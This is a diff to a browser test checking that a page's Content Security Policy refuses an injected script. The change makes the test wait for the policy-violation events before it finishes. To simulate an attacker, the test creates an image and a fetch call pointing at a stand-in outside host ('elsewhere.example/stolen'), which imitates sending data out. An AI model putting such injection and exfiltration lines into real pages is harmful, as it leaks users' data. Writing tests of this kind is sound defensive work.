@@ -38,7 +38,13 @@ test('a script that got into the page all the same is refused by the policy', as
   await openDashboard(page)
   const outcome = await page.evaluate(async () => {
     const refused: string[] = []
-    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
+    // The browser tells of what it refused when it comes to it.
+    const told = new Promise<void>((resolve) =>
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        refused.push(effectiveDirective)
+        if (['img-src', 'connect-src'].every((one) => refused.includes(one))) resolve()
+      }),
+    )
     const inline = document.createElement('div')
     try {
       // As an attacker would; the lint keeps the plain form out of our own code.
@@ -50,7 +56,7 @@ test('a script that got into the page all the same is refused by the policy', as
     image.setAttribute('src', 'https://elsewhere.example/stolen.png')
     document.body.append(image)
     await fetch('https://elsewhere.example/stolen').catch(() => {})
-    await new Promise((resolve) => setTimeout(resolve, 0))
+    await told
     return { refused, hacked: 'hacked' in globalThis }
   })
   expect(outcome.hacked).toBe(false)
